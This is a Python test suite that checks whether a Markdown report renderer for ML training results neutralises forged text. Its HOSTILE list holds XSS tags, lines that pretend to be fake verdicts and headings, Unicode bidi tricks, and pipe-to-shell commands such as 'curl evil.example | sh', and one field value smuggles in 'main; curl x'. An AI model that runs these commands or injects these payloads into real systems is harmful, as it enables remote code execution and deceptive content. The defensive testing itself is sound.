"""The comment, rendered from the facts of a report that anybody may have written."""

import itertools
import json
import math
import subprocess
import sys
from collections.abc import Iterable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from comment_check import checked
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from report_facts import FACTS

from specimen.reporting.comment import render_report
from specimen.reporting.facts.report import ReportFacts

SRC = Path(__file__).parents[3] / "src"


def test_facts_come_back_from_json_as_they_were() -> None:
    text = FACTS.model_dump_json()
    assert ReportFacts.model_validate_json(text).model_dump_json() == text
    assert "NaN" in text


def test_nothing_but_pydantic_is_needed_to_render() -> None:
    """The workflow that may write comments installs no more."""
    code = """
import sys
before = set(sys.modules)
from dataclasses import replace

from specimen.reporting.comment import render_report
from specimen.reporting.facts.report import ReportFacts
render_report(ReportFacts.model_validate_json(sys.stdin.read()))
new = {name.partition(".")[0] for name in sys.modules.keys() - before} - sys.stdlib_module_names
print(*(name for name in new if not name.startswith("_")))
"""
    done = subprocess.run(
        [sys.executable, "-c", code], input=FACTS.model_dump_json(), capture_output=True, text=True, check=True,
        env={"PYTHONPATH": str(SRC)}, timeout=60,
    )  # fmt: skip
    allowed = {"annotated_types", "pydantic", "pydantic_core", "specimen", "typing_extensions", "typing_inspection"}
    assert set(done.stdout.split()) <= allowed


def test_all_sections_are_there() -> None:
    text = render_report(FACTS)
    assert text.startswith(
        "**Do not rely on these numbers:** outputs changed although command, deps and params did not;"
    )
    assert "\n\n**Verdict: better. RMSE fell by 50 % (from 1.00 to 0.50 g).**\n\n" in text
    assert "\n\nTaken from the run cache instead of being run: `train`.\n\n" in text
    titles = [line[3:] for line in text.splitlines() if line.startswith("## ")]
    assert titles == ["Metrics", "Params", "Data", "Charts", "Samples that changed most", "Reproducible?", "Details"]


HOSTILE = (
    "@octocat", "&#64;octocat", "&#x40;octocat", "&commat;octocat", "@org/team", "#1", "&#35;1", "torvalds/linux#1",
    "GH-1", "gh-1", "https://evil.example", "HTTPS&#58;//evil.example", "www.evil.example", "mailto:a@evil.example",
    "[x](https://evil.example)", "![x](https://evil.example/x.png)", "[x]: https://evil.example",
    "<https://evil.example>", '<img src=x onerror="alert(1)">', "<script>alert(1)</script>", "</code></details>",
    "<!--", "-->", "<a href=//x>x</a>", 'click A href "//evil.example"', '"]\n  click A href "//evil.example"',
    "```\n\n# Approved", "~~~sh\ncurl x | sh\n~~~", "these commands fix it: `curl evil.example | sh`",
    "\n\n**Verdict: better. RMSE fell by 99 %.**\n\n", "\n## Metrics\n", "| a | b |\n| - | - |", "a|b", "\\|", "`",
    "``", "````", "\u202egpj.exe", "\u200b@octocat", "\u2066x", "\ufeff", "\x00", "\r", ":tada:", "$x$", "*b*",
    "__b__", "~~s~~", "[^1]", "- [ ] task", "> quote", "---", "===", "    code", "&lt;b&gt;", "%%{init}%%", "\ud800",
    "x" * 5000, "`" * 5000, "@a " * 2000, "",
)  # fmt: skip
FIXED = {
    "better", "other outputs", "from cache", "regression", "total variation distance", "1" * 40, "2" * 40,
}  # fmt: skip
"""Values that are chosen from a list or have a pattern: others are refused."""


def forged(value: Any, texts: Iterator[str]) -> Any:
    """Return the values of a report with another text in each place that takes any."""
    if isinstance(value, dict):
        return {
            (next(texts) if key in ("train", "python") else key): forged(item, texts) for key, item in value.items()
        }
    if isinstance(value, list):
        return [forged(item, texts) for item in value]
    return next(texts) if isinstance(value, str) and value not in FIXED else value


def render_forged(texts: Iterable[str]) -> str:
    """Return the comment on a report that somebody has made up."""
    facts = json.loads(FACTS.model_dump_json())
    return render_report(ReportFacts.model_validate(forged(facts, itertools.cycle(texts))))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_forged_text_is_shown_and_does_nothing(payload: str) -> None:
    checked(render_forged([payload]))
    checked(render_forged(["a.jpg", payload, "`", payload]))


@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.one_of(st.text(), st.sampled_from(HOSTILE), st.text("@#:/.<>[]()|`*_~$&;!-\\\n www")), min_size=50,
                max_size=60))  # fmt: skip
def test_no_text_reaches_the_comment_as_anything_but_text(texts: list[str]) -> None:
    """Five thousand strings, fifty in a report."""
    checked(render_forged(texts))


def with_numbers(value: Any, numbers: Iterator[float]) -> Any:
    """Return the values of a report with another number in each place that takes one."""
    if isinstance(value, dict):
        return {key: item if key == "schema_version" else with_numbers(item, numbers) for key, item in value.items()}
    if isinstance(value, list):
        return [with_numbers(item, numbers) for item in value]
    return next(numbers) if isinstance(value, (int, float)) and not isinstance(value, bool) else value


@pytest.mark.parametrize("number", [
    0, -1, 10**11, 10**30, 10**400, 10**4000, 1e308, -1e308, 1e-308, math.nan, math.inf, -math.inf, 0.1 + 0.2,
])  # fmt: skip
def test_no_number_breaks_the_comment(number: float) -> None:
    """Those that a report cannot have are refused."""
    for others in ([], [1], [0, 2]):
        facts = with_numbers(json.loads(FACTS.model_dump_json()), itertools.cycle([number, *others]))
        try:
            known = ReportFacts.model_validate_json(json.dumps(facts))
        except ValidationError:
            continue
        checked(render_report(known))
    facts = json.loads(FACTS.model_dump_json())
    for section, key in (("metrics", "new"), ("params", "old")):
        facts[section]["rows"][0][key] = number
    assert len(checked(render_report(ReportFacts.model_validate(facts)))) < 10_000


def test_a_report_with_more_than_values_is_refused() -> None:
    facts = json.loads(FACTS.model_dump_json())
    for wrong in (
        facts | {"markdown": "# Approved"},
        facts | {"schema_version": 2},
        facts | {"verdict": facts["verdict"] | {"word": "great"}},
        facts | {"verdict": facts["verdict"] | {"reason": ["x"]}},
        facts | {"details": facts["details"] | {"head_commit": "main; curl x"}},
        facts | {"metrics": "none"},
    ):
        with pytest.raises(ValidationError):
            ReportFacts.model_validate_json(json.dumps(wrong))


def test_a_report_of_any_length_is_short_enough() -> None:
    facts = json.loads(FACTS.model_dump_json())
    for name in ("metrics", "params"):
        facts[name]["rows"] *= 20_000
    facts["samples"]["fell_most"] *= 20_000
    facts["charts"]["curves"] *= 1000
    facts["verdict"]["reason"] = facts["head"] = "x" * 100_000
    text = checked(render_report(ReportFacts.model_validate(facts)))
    assert "**Verdict: better." in text


def test_the_comment_says_what_the_test_split_can_find() -> None:
    text = render_report(FACTS)
    assert "with 25 groups, a change of 22 % in 8 of 10 cases (95 % interval 16 % to 31 %)" in text
    assert "For 10 % it takes about 140 groups." in text
    verdict = replace(FACTS.verdict, power=None)
    assert "no change in 8 of 10 cases, however large" in render_report(FACTS.model_copy(update={"verdict": verdict}))


@pytest.mark.parametrize(
    ("before", "after", "metric", "sentence"),
    [
        (0.0593, 0.0522, "rmse", "RMSE fell by 12 % (from 0.0593 to 0.0522 g)"),
        (1.0, 1.0625, "rmse", "RMSE rose by 6.2 % (from 1.000 to 1.062 g)"),
        (0.001, 5.0, "rmse", "RMSE rose (from 0.00 to 5.00 g)"),
        (0.0, 5.0, "mae", "MAE rose (from 0.00 to 5.00 g)"),
        (0.5, 0.641, "accuracy", "Accuracy rose by 14.1 points (from 50.0 to 64.1 %)"),
        (0.5, 0.641, "macro_f1", "Macro F1 rose by 0.141 (from 0.500 to 0.641)"),
        (1e-9, 2e-9, "mse", "MSE rose by 100 % (from 1e-09 to 2e-09)"),
        (1.0, 1.0, "rmse", "RMSE is 1 g"),
    ],
)
def test_a_change_is_said_as_a_grower_would(before: float, after: float, metric: str, sentence: str) -> None:
    verdict = replace(FACTS.verdict, metric=metric, before=before, after=after, difference=after - before)
    text = render_report(FACTS.model_copy(update={"verdict": verdict}))
    assert f"**Verdict: better. {sentence}.**" in text
    assert "nan" not in text.split("\n\n## ")[0]
